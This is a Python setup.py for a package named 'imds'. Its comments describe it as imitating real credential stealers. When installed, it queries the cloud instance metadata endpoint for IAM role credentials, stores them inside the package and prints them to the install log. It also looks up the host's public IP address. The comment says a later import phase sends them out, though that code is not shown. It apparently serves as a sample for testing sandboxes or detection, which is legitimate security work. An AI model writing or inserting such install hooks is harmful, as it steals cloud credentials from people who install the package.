# An sdist that reads the cloud instance's credentials during install
# (setup.py, as real stealers do) and keeps them in the package, which
# sends them home when imported, a later phase; both ask the machine's
# public address, which must be the same one.
import os
import urllib.request

from setuptools import setup

here = os.path.dirname(os.path.abspath(__file__))
key = "none"
try:
    base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    role = urllib.request.urlopen(base, timeout=10).read().decode().split()[0]
    key = urllib.request.urlopen(base + role, timeout=10).read().decode()
except Exception as e:
    key = "error: %r" % e
with open(os.path.join(here, "imds", "kept.txt"), "w") as f:
    f.write(key)
print("MOAT-IMDS install %s" % key.replace("\n", " ")[:400])
try:
    ip = urllib.request.urlopen("http://api.ipify.org/", timeout=10).read().decode()[:64]
except Exception as e:
    ip = "error: %r" % e
print("MOAT-IP install %s." % ip)

setup(name="imds", version="0.1", packages=["imds"], package_data={"imds": ["kept.txt"]})
